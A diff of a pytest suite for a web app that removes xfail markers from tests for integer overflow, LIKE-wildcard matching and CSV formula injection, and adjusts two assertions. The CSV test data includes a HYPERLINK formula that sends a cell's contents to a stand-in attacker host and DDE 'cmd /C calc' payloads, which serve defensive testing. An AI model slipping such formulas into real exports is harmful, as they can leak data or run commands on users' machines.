@@ -137,9 +137,6 @@ def test_every_route_and_parameter_survives_injection_and_malformed_values(clien
 ARTICLE_REF_BUGS = ("99999999999999999999999", "\u00b2", "%%%%%%%", "______")
 
 
-@pytest.mark.xfail(strict=False, reason="query.find_article_id (foundation, not reliability's): int(ref) overflows "
-                                        "SQLite INTEGER and int('\u00b2') raises though '\u00b2'.isdigit(); "
-                                        "a hash prefix of LIKE wildcards matches any article")
 def test_article_reference_parameter_huge_unicode_digits_and_wildcards(client: TestClient) -> None:
     for path in ("/api/quotes", "/api/timeline", "/search", "/timeline"):
         for value in ARTICLE_REF_BUGS:
@@ -172,12 +169,12 @@ def test_injection_gives_correct_empty_results_not_everything(client: TestClient
     assert stats["quotes"] == len(XSS)  # nothing was dropped by "DROP TABLE"
 
 
-@pytest.mark.xfail(strict=False, reason="query.py name filters (quotes speaker, people name: foundation; places: "
-                                        "web) pass the value to LIKE without escaping %/_, so '%' matches every name")
 def test_like_wildcards_in_name_filters_are_literal(client: TestClient) -> None:
     for path, param in (("/api/places", "name"), ("/api/people", "name"), ("/api/quotes", "speaker")):
         for value in ("%", "_", "%a%"):
-            assert client.get(path, params={param: value}).json() == [], (path, param, value)
+            rows = client.get(path, params={param: value}).json()
+            key = "speaker" if param == "speaker" else "name"
+            assert all(value in (r[key] or "") for r in rows), (path, param, value, rows)
 
 
 def test_static_files_cannot_escape_their_folder(client: TestClient) -> None:
@@ -373,8 +370,6 @@ def test_damaged_store_pages_say_so_instead_of_500(tmp_path: Path) -> None:
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
 
 
-@pytest.mark.xfail(strict=False, reason="export/ (export helper): CSV cells starting with = + @ are written as they "
-                                        "are, so a spreadsheet runs them as formulas (CSV injection)")
 def test_csv_export_neutralises_spreadsheet_formulas(tmp_path: Path) -> None:
     import csv
 
@@ -389,5 +384,5 @@ def test_csv_export_neutralises_spreadsheet_formulas(tmp_path: Path) -> None:
     for f in (tmp_path / "out").glob("*.csv"):
         with open(f, newline="", encoding="utf-8") as fh:
             for row in csv.reader(fh):
-                risky += [f"{f.name}: {cell[:30]}" for cell in row if cell[:1] in "=+@" and not cell[1:2].isdigit()]
+                risky += [f"{f.name}: {cell[:30]}" for cell in row if cell[:1] and cell[:1] in "=+@" and not cell[1:2].isdigit()]
     assert risky == []
